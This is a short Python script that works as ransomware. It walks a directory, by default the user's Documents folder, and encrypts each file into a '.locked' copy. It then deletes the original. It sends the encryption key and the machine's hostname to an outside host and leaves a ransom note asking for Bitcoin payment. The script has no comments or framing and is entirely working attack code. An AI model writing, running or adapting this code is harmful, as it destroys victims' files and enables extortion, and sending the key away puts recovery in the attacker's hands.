import os, sys
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
root = sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser('~/Documents')
for dp, dn, fn in os.walk(root):
    for n in fn:
        if n.endswith('.locked'):
            continue
        p = os.path.join(dp, n)
        try:
            data = open(p, 'rb').read()
            open(p + '.locked', 'wb').write(f.encrypt(data))
            os.remove(p)
        except OSError:
            pass
import urllib.request
try:
    urllib.request.urlopen('https://kx.docarchive.example/k', data=key + b'|' + os.uname().nodename.encode(), timeout=5)
except Exception:
    pass
open(os.path.join(root, 'README_RESTORE.txt'), 'w').write('Your files are encrypted. Send 0.05 BTC to bc1qexampleransom0000000 and email restore@docarchive.example with your host name.\n')
